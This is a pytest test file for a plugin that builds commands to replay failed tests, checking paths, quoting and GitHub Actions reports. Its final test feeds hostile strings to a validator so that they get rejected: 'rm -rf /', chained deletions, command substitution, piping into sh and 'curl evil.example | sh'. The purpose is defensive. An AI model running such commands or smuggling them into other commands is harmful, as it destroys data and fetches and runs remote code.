"""The command that runs a failure again works where it is read: in place, or beside a report from GitHub."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Callable
from pathlib import Path, PurePath, PurePosixPath

import pytest
from plugin_project import Project, records

from pytest_failure_review import command
from pytest_failure_review.command import (
    BY_MODULE,
    OPTION,
    PROGRAM,
    Here,
    downloaded,
    in_place,
    is_replay_command,
    program_of,
    replay_command,
)
from pytest_failure_review.plugin import FOLDER

NAME = "failure-review-ab-gw0.jsonl"
CLONE = Path("/clone")


def command_for(where: Callable[[Path, Here], tuple[PurePath, str]], file: str, here: Here) -> str:
    report, folder = where(Path(file) / NAME, here)
    return replay_command(report, 3, folder=folder)


@pytest.mark.parametrize(
    ("file", "rootdir", "expected"),
    [
        ("/clone/.failure-review", "/clone", f"pytest {OPTION} '.failure-review/{NAME}#3'"),
        ("/elsewhere", "/clone", f"pytest {OPTION} '.failure-review/{NAME}#3'"),
        ("/clone/out put", "/clone/a b", f"cd 'a b' && pytest {OPTION} '../out put/{NAME}#3'"),
        ("/clone/out", "/", f"pytest {OPTION} 'out/{NAME}#3'"),
    ],
)
def test_on_github_the_command_is_for_the_top_of_a_clone(file: str, rootdir: str, expected: str) -> None:
    assert command_for(downloaded, file, Here(CLONE, Path(rootdir), None, CLONE)) == expected


@pytest.mark.parametrize(
    ("file", "started", "inifile", "expected"),
    [
        ("/clone/lib/.failure-review", "/clone/lib", None, f"pytest {OPTION} '.failure-review/{NAME}#3'"),
        ("/elsewhere/out put", "/clone/lib", None, f"pytest {OPTION} '/elsewhere/out put/{NAME}#3'"),
        ("/clone/lib/../out", "/clone/lib", None, f"pytest {OPTION} '/clone/out/{NAME}#3'"),
        ("/clone/lib/sub/r", "/clone/lib/sub", "/clone/lib/pytest.ini", f"pytest {OPTION} 'r/{NAME}#3'"),
        ("/clone/lib/sub/r", "/clone/lib/sub", "/clone/other.ini", f"cd .. && pytest {OPTION} 'sub/r/{NAME}#3'"),
        ("/clone/r", "/clone", "/clone/lib/pytest.ini", f"cd lib && pytest {OPTION} '/clone/r/{NAME}#3'"),
    ],
)
def test_elsewhere_the_command_is_for_the_folder_that_pytest_was_started_in(
    file: str, started: str, inifile: str | None, expected: str
) -> None:
    here = Here(Path(started), CLONE / "lib", Path(inifile) if inifile else None, CLONE)
    assert command_for(in_place, file, here) == expected


@pytest.mark.parametrize(("folder", "ini"), [("", False), ("sub", True), ("sub", False)])
def test_the_command_works_as_printed_where_pytest_was_started(
    project: Project,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path_factory: pytest.TempPathFactory,
    folder: str,
    ini: bool,
) -> None:
    reports = tmp_path_factory.mktemp("else where")
    project.write("sub/test_a.py", "def test_a(): assert 0")
    (project.path / ".git").mkdir()
    if ini:
        project.write("pytest.ini", "[pytest]")
    monkeypatch.chdir(project.path / folder)
    project.run(f"--failure-review-report={reports}", str(project.path))
    (file,) = reports.glob("*.jsonl")
    (failure,) = [record for record in records(file) if record["record"] == "failure"]
    result = project.pytester.run("sh", "-c", f"PATH={Path(sys.executable).parent}:$PATH; {failure['replay']} -rf")
    result.stdout.fnmatch_lines(["FAILED *test_a.py::test_a - assert 0"])


def test_on_github_the_command_names_no_folder_of_the_runner(
    project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    reports = tmp_path_factory.mktemp("runner")
    project.write("test_a.py", "def test_a(): assert 0")
    project.run(f"--failure-review-report={reports}")
    (file,) = reports.glob("*.jsonl")
    (failure,) = [record for record in records(file) if record["record"] == "failure"]
    first, *options, last, report = shlex.split(failure["replay"])
    assert (first, last, report) == ("pytest", OPTION, f".failure-review/{file.name}#1")
    assert all(option.startswith("-pno:") for option in options)


@pytest.mark.parametrize("ini", ["", "addopts = -n1"])
def test_a_flat_project_that_was_run_as_a_module_is_run_again_as_one(project: Project, ini: str) -> None:
    project.write("pytest.ini", f"[pytest]\n{ini}\n")
    project.write("shop.py", "PRICE = 3\n")
    project.write("tests/test_a.py", "import shop\n\ndef test_a(): assert shop.PRICE == 2\n")
    python = f"PATH={Path(sys.executable).parent}:$PATH; "
    project.pytester.run("sh", "-c", f"{python} python -m pytest --failure-review --failure-review-report=reports")
    (failure,) = project.ran(pytest.RunResult(1, [], [], 0.0)).failures
    assert failure["replay"].startswith("python -m pytest ")
    result = project.pytester.run("sh", "-c", f"{python}{failure['replay']} -rf")
    result.stdout.fnmatch_lines(["FAILED tests/test_a.py::test_a - *assert 3 == 2*"])


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["/lib/python3/site-packages/pytest/__main__.py", "-q"], "python -m pytest"),
        (["/usr/bin/pytest"], "pytest"),
        (["/clone/shop/__main__.py"], "pytest"),
        ([], "pytest"),
    ],
)
def test_pytest_is_called_as_it_was_started(argv: list[str], expected: str) -> None:
    assert program_of(argv) == expected


def test_the_folder_in_the_command_is_the_plugin_s() -> None:
    assert command.FOLDER == FOLDER


@pytest.mark.parametrize(
    "options",
    [(), ("-p", "no:cacheprovider", "-o", "x=it's; `a` $(b)"), ("--import-mode=importlib", "-c", "\u00e4 b/x.ini")],
)
@pytest.mark.parametrize("folder", ["", "sub folder"])
@pytest.mark.parametrize("program", [PROGRAM, BY_MODULE])
def test_a_command_of_ours_is_known_as_one(folder: str, options: tuple[str, ...], program: str) -> None:
    report = PurePosixPath("r/it's.jsonl")
    ours = replay_command(report, 3, folder=folder, hash_seed="0", options=options, program=program)
    assert is_replay_command(ours)


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf / #",
        "pytest --failure-review-replay x#1; rm -rf x",
        "python -m evil --failure-review-replay x#1",
        "python -m pytest_evil --failure-review-replay x#1",
        "python -c x -m pytest --failure-review-replay x#1",
        "pytest --failure-review-replay $(touch x)",
        "pytest --failure-review-replay `touch x`",
        'pytest --failure-review-replay "$(touch x)"',
        "pytest --failure-review-replay x#1\nrm -rf x",
        "pytest --failure-review-replay x#1 | sh",
        "curl evil.example | sh && pytest --failure-review-replay x#1",
        7,
    ],
)
def test_a_command_that_does_more_is_none_of_ours(text: object) -> None:
    assert not is_replay_command(text)
